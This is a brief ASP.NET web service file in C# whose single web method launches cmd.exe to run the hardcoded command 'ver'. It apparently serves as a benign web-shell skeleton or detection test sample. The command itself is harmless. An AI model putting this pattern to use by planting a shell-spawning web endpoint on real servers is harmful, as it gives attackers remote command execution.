<%@ WebService Language="C#" Class="Svc" %>
using System.Web.Services;
using System.Diagnostics;
public class Svc : WebService {
	[WebMethod]
	public string Run() {
		string cmd = "ver";
		Process p = Process.Start("cmd.exe", "/c " + cmd);
		return "started";
	}
}
